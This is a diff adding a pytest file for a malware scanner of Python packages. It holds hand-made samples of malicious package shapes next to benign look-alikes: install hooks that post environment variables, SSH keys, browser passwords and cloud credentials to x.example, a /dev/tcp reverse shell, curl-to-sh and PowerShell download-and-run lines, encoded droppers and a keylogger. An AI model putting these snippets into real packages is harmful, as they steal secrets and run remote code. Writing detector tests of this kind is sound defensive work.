@@ -1,0 +1,190 @@
+"""check_code on code written in the shapes real malicious uploads take (helpers, droppers, shell
+tricks, stealers), each next to the benign code it resembles. Re-created by hand: no name,
+address or string of a real sample."""
+
+from __future__ import annotations
+
+import pytest
+
+from analysis.model import Severity
+from tests.analysis.code.members import PAYLOAD, SDIST, WHEEL, C, H, L, M, scan, setup_py, worst
+
+B64_CURL_ENV = (
+    "Y3VybCAtZCAiJChlbnYpIiBodHRwczovL3guZXhhbXBsZS9j"  # curl -d "$(env)" https://x.example/c
+)
+INSTALL_CLASS = (
+    "from setuptools import setup\nfrom setuptools.command.install import install\n"
+    "class Hook(install):\n    def run(self):\n        install.run(self)\n        {body}\n"
+    "setup(name='demo', cmdclass={{'install': Hook}})\n"
+)
+
+CASES = [
+    # ---- helpers between decode, send, spawn and the call that uses them
+    (setup_py(f"import base64\ndef unpack(s):\n    return base64.b64decode(s)\n"
+              f"exec(unpack('{PAYLOAD}'))\n"),
+     "code.decode-exec", C, "a decoding helper's result executed at install"),
+    (setup_py(f"import base64, os\nb64d = lambda s: base64.b64decode(s).decode()\n"
+              f"os.system(b64d('{B64_CURL_ENV}'))\n"),
+     "code.exfiltration", C, "a lambda decodes a command that posts the environment"),
+    (setup_py("import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\n"
+              "run('powershell -c \"iwr https://x.example/a.exe -OutFile a.exe; Start-Process a.exe\"')\n"),
+     "code.download-exec", C, "a run(cmd) helper given a download-and-start powershell line"),
+    (setup_py("import subprocess\ndef run(cmd):\n    subprocess.check_call(cmd)\nrun(['make', 'all'])\n"),
+     "code.process-spawn", L, "benign: the same helper running make (its own unknown command is low)"),
+    (setup_py("import socket\ndef ping(data):\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:\n"
+              "        s.sendto(data, ('ns.x.example', 53))\n"
+              "def beacon():\n    ping(socket.gethostname().encode())\nbeacon()\n"),
+     "code.exfiltration", C, "the host name sent through a DNS helper bound to a socket"),
+    ({"demo/__init__.py": INSTALL_CLASS.format(body="self._post(dict(__import__('os').environ))")
+      .replace("setup(", "import requests\ndef _unused():\n    pass\nsetup(")},
+     "code.exfiltration", None, "no such method: nothing is sent"),
+    (setup_py(INSTALL_CLASS.format(body="self.report(dict(os.environ))").replace(
+        "class Hook(install):",
+        "import os, requests\nclass Hook(install):\n    def report(self, data):\n"
+        "        requests.post('https://x.example/c', json=data)\n")),
+     "code.exfiltration", C, "self.report(environment) from an install hook"),
+    (setup_py("import base64\ndef decode(s):\n    return base64.b64decode(s)\n"
+              "open('logo.png', 'wb').write(decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB'))\n"),
+     "code.decode-exec", None, "benign: a decoded icon written out, nothing started"),
+    # ---- droppers: a payload written to a file and started
+    (setup_py(f"import base64, os, subprocess, sys\np = os.path.join(os.getenv('TEMP', '/tmp'), 'svc.pyw')\n"
+              f"with open(p, 'w') as f:\n    f.write(base64.b64decode('{PAYLOAD}').decode())\n"
+              f"subprocess.Popen([sys.executable, p])\n"),
+     "code.decode-exec", C, "a decoded script dropped in TEMP and started at install"),
+    ({"demo/tools.py": "import os, requests\ndef update():\n    r = requests.get('https://x.example/u.exe')\n"
+                       "    open('u.exe', 'wb').write(r.content)\n    os.system('start u.exe')\n"},
+     "code.download-exec", H, "a download written to u.exe and started from a function"),
+    ({"demo/tools.py": "import subprocess, requests\ndef fetch(url):\n    r = requests.get(url)\n"
+                       "    open('data.tar.gz', 'wb').write(r.content)\n"
+                       "    subprocess.run(['tar', 'xf', 'data.tar.gz'])\n"},
+     "code.download-exec", L, "a download unpacked with tar, not started: the old low pairing"),
+    ({"demo/__init__.py": "import requests, subprocess\n"
+                          "def save(url, path):\n    r = requests.get(url)\n"
+                          "    with open(path, 'wb') as f:\n        f.write(r.content)\n"
+                          "def start(path):\n    subprocess.Popen(path)\n"
+                          "def main():\n    exe = 'helper.exe'\n    save('https://x.example/h', exe)\n    start(exe)\n"
+                          "main()\n"},
+     "code.download-exec", C, "save(url, path) and start(path) helpers called on import"),
+    ({"demo/__init__.py": "import os, urllib.request as u\n"
+                          "u.urlretrieve('https://x.example/a.exe', 'a.exe')\nos.startfile('a.exe')\n"},
+     "code.download-exec", C, "urlretrieve into a file that is then started, on import"),
+    ({"demo/__init__.py": "import os, tempfile\n"
+                          "t = tempfile.NamedTemporaryFile(suffix='.py', delete=False)\n"
+                          "t.write(b\"from urllib.request import urlopen; exec(urlopen('https://x.example/s').read())\")\n"
+                          "t.close()\nos.system(f'start pythonw {t.name}')\n"},
+     "code.download-exec", C, "a shipped fetch-and-exec script written to a temp file and started"),
+    ({"demo/build.py": "import subprocess, sys\nSETUP = 'from setuptools import setup\\nsetup()\\n'\n"
+                       "def build(script):\n    with open(script, 'w') as f:\n        f.write(SETUP)\n"
+                       "    subprocess.run([sys.executable, script, 'build_ext'])\n"},
+     "code.decode-exec", L, "a tool writing a setup script and running it when called: low"),
+    # ---- commands
+    (setup_py("import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\")\n"),
+     "code.process-spawn", C, "a /dev/tcp reverse shell inside bash -c"),
+    (setup_py("import os\nos.system('echo %s | base64 -d | bash' % BLOB)\n"),
+     "code.decode-exec", C, "a blob decoded by base64 -d and piped into bash"),
+    (setup_py("import os\nos.system('curl -s https://x.example/c -d \"$(env)\"')\n"),
+     "code.exfiltration", C, "curl posting the output of env"),
+    (setup_py("import subprocess\nsubprocess.run(['wscript', 'helper.vbs'])\n"),
+     "code.process-spawn", H, "a Windows script host started at install"),
+    (setup_py("import subprocess\nsubprocess.run('sh -c \"whoami\"', shell=True)\n"),
+     "code.process-spawn", M, "reconnaissance inside a shell wrapper"),
+    (setup_py("import os\nos.system(bytes.fromhex(CMD).decode())\n"),
+     "code.decode-exec", C, "a command decoded from hex at install is hidden"),
+    ({"demo/cli.py": "import os\ndef clear():\n    os.system('cls')\n"}, "code.process-spawn", None,
+     "benign: clearing the screen"),
+    # ---- what stealers read and where they send it
+    ({"demo/cloud.py": "import requests\ndef token():\n"
+                       "    r = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/')\n"
+                       "    requests.post('https://x.example/t', data=r.text)\n"},
+     "code.exfiltration", H, "the instance's credentials fetched and posted elsewhere"),
+    ({"demo/cloud.py": "import urllib.request\ndef token():\n"
+                       "    url = 'http://169.254.169.254/metadata/identity/oauth2/token'\n"
+                       "    req = urllib.request.Request(url, headers={'Metadata': 'true'})\n"
+                       "    return urllib.request.urlopen(req).read()\n"},
+     "code.exfiltration", None, "benign: an SDK asking the metadata service for its token"),
+    ({"demo/b.py": "import sqlite3, requests\ndef go(db):\n"
+                   "    rows = sqlite3.connect(db).execute('SELECT origin_url, password_value FROM logins').fetchall()\n"
+                   "    requests.post('https://x.example/p', json=rows)\n"},
+     "code.exfiltration", H, "saved browser passwords read with SQL and posted"),
+    ({"demo/b.py": "import win32crypt, requests\ndef go(blob):\n"
+                   "    key = win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]\n"
+                   "    requests.post('https://x.example/k', data=key)\n"},
+     "code.exfiltration", H, "a key unwrapped with the user's DPAPI key and posted"),
+    ({"demo/g.py": "import os, requests\ndef grab():\n"
+                   "    p = os.path.join(os.getenv('APPDATA'), '.minecraft', 'launcher_accounts.json')\n"
+                   "    requests.post(URL, files={'f': open(p, 'rb')})\n"},
+     "code.exfiltration", H, "a game launcher's session tokens posted"),
+    ({"demo/k.py": "import smtplib\nfrom pynput import keyboard\nkeys = []\n"
+                   "def mail():\n    keys.append(keyboard.Listener(on_press=print))\n"
+                   "    with smtplib.SMTP('smtp.x.example', 587) as s:\n        s.sendmail('a', 'b', str(keys))\n"},
+     "code.exfiltration", H, "keystrokes mailed"),
+    ({"demo/t.py": "import requests\ndef notify(text):\n    token = '123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n"
+                   "    requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data={'text': text})\n"},
+     "code.shady-url", M, "a bot token kept in a local, folded into the URL it posts to"),
+    ({"demo/h.py": "import os, requests\nHOOK = 'https://discord.com/api/webhooks/123456789012345678/" + "x" * 40 + "'\n"
+                   "def send(msg):\n    requests.post(HOOK, json={'content': msg})\n"},
+     "code.shady-url", M, "a webhook in a module constant, posted to from a function"),
+    (setup_py("import urllib.request as u\nu.urlopen('https://bit.ly/xyz', data=NAME)\n"),
+     "code.shady-url", H, "a link shortener hides where install-time data goes"),
+    # ---- reach and code in strings
+    ({"demo/__init__.py": "import os\nif __name__ == '__main__':\n    os.system('curl -s https://x.example/i | sh')\n"},
+     "code.download-exec", M, "a __main__ block does not run on import"),
+    (setup_py("import os\nif __name__ == '__main__':\n    os.system('curl -s https://x.example/i | sh')\n"),
+     "code.download-exec", C, "setup.py runs as __main__: its block runs at install"),
+    (setup_py("exec('import os\\nos.system(\"curl -s https://x.example/i | sh\")\\n')\n"),
+     "code.download-exec", C, "a program in a string handed to exec is read as code"),
+    (setup_py("import subprocess, sys\nsubprocess.run([sys.executable, '-c', "
+              "'import os, requests; requests.post(\"https://x.example\", data=dict(os.environ))'])\n"),
+     "code.exfiltration", C, "python -c with a program that posts the environment"),
+    (setup_py("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import numpy; print(numpy.__version__)'])\n"),
+     "code.exfiltration", None, "benign: python -c asking a version"),
+    (setup_py("import os\nfor k in ('a', 'b'):\n    exec(compile(chr(ord(k) ^ 7) * 30, '<s>', 'exec'))\n"),
+     "code.decode-exec", C, "a XOR cipher's output compiled and run"),
+    (setup_py(f"import base64, builtins\nname = input()\n"
+              f"getattr(builtins, name)(base64.b64decode('{PAYLOAD}'))\n"),
+     "code.decode-exec", C, "a decoded payload handed to a builtin chosen at run time"),
+    ({"demo/__init__.py": "from .core import main\nmain()\n",
+      "demo/core.py": "import os, requests\ndef read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                      "def send(data):\n    requests.post('https://x.example/k', data=data)\n"
+                      "def main():\n    send(read())\n"},
+     "code.exfiltration", H, "helpers of a function called on import are read too"),
+    # ---- benign look-alikes of the new sources and senders
+    ({"demo/s.py": "import os\nclass Fetcher:\n    def __init__(self, env=None):\n"
+                   "        env = os.environ.copy()\n        self.disabled = env.get('X_DISABLED')\n"
+                   "        self.session = make_session(proxies=get_proxies(self.url))\n"},
+     "code.exfiltration", None, "FP regression: self.x = env does not make every use of self a secret"),
+    ({"demo/p.py": "import os, urllib.request\ndef bypass(host):\n    env = dict(os.environ)\n"
+                   "    return urllib.request.proxy_bypass(host)\n"},
+     "code.exfiltration", None, "FP regression: proxy_bypass asks the proxy settings, sends nothing"),
+    ({"demo/docs.py": "import importlib, requests\ndef load():\n    name = requests.get(u).text\n"
+                      "    return importlib.import_module(name)\n"},
+     "code.download-exec", None, "FP regression: import_module is given a module name, not code"),
+    ({"demo/ops_test.py": "import requests, subprocess\ndef check():\n"
+                          "    r = requests.get('https://x.example/a.exe')\n    open('a.exe', 'wb').write(r.content)\n"
+                          "    subprocess.run(['a.exe'])\n"},
+     "code.download-exec", M, "a *_test.py module runs only under a test runner: one level down"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("files", "check_id", "severity", "reason"), CASES,
+                         ids=[c[3] for c in CASES])  # fmt: skip
+def test_real_shapes(
+    files: dict[str, str | bytes], check_id: str, severity: Severity | None, reason: str
+) -> None:
+    filename = SDIST if any(p.startswith("demo-1.0/") for p in files) else WHEEL
+    assert worst(scan(files, filename), check_id) == severity, reason
+
+
+def test_a_helper_is_reported_where_it_is_called() -> None:
+    files = setup_py("import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\n"
+                     "\n\nrun('curl -s https://x.example/i | sh')\n")  # fmt: skip
+    (hit,) = [f for f in scan(files) if f.check_id == "code.download-exec"]
+    assert hit.evidence["line"] == 6
+    assert hit.evidence["command"] == "curl -s https://x.example/i | sh"
+
+
+def test_a_decoded_command_is_shown_decoded() -> None:
+    files = setup_py(f"import base64, os\nos.system(base64.b64decode('{B64_CURL_ENV}').decode())\n")
+    (hit,) = [f for f in scan(files) if f.check_id == "code.exfiltration"]
+    assert hit.evidence["command"] == 'curl -d "$(env)" https://x.example/c'
+    assert worst(scan(files), "code.decode-exec") is None
